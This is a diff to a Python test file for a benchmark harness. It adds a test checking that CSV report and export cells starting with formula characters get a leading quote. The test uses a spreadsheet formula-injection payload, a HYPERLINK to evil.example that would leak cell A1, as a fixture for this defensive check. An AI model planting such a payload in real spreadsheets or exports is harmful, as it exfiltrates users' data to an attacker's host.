@@ -5,10 +5,15 @@ characters from a board. Each is exit 2 and one line naming the file, key or fla
 
 from __future__ import annotations
 
+import pandas as pd
 import pytest
+from fixtures_db import add_refs, sample_result
 from test_hostile_input import SPEC, cli
 
+from db import Store
 from harness.cli import main
+from harness.commands.export import export
+from reports.render import render_report
 
 
 @pytest.mark.parametrize("extra, key, bound", [
@@ -37,3 +42,22 @@ def test_lease_ttl_is_bounded(spec_dir, capsys, sqlite_url, ttl, monkeypatch) ->
     monkeypatch.setenv("BENCHFARM_LEASE_TTL_S", ttl)
     code, err = cli(capsys, "--db", sqlite_url, "run", str(path))
     assert code == 2 and "$BENCHFARM_LEASE_TTL_S" in err and "between 3 and 86400" in err, err
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(tmp_path, start) -> None:
+    error = f'{start}=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+    url = f"sqlite:///{tmp_path}/store.db"
+    with Store.open(url) as store:
+        refs = add_refs(store, experiment="e1")
+        store.save_run(sample_result(refs, "a" * 64))
+        store.save_run(sample_result(refs, "b" * 64, status="failed", exit_code=3, error=error))
+        render_report(store, "e1", tmp_path / "report")
+        export(store, "e1", "csv", tmp_path / "export")
+    failures = pd.read_csv(tmp_path / "report" / "failures.csv", keep_default_na=False)
+    runs = pd.read_csv(tmp_path / "export" / "runs.csv", keep_default_na=False)
+    for cells in (failures["error"], runs.loc[runs["status"] == "failed", "error"]):
+        (cell,) = cells.tolist()
+        assert cell.startswith("'") and cell[1:].strip() == error.strip(), cell
+    # numbers stay numbers: a negative one is not a formula
+    assert (runs.loc[runs["status"] == "ok", "exit_code"] == 0).all()
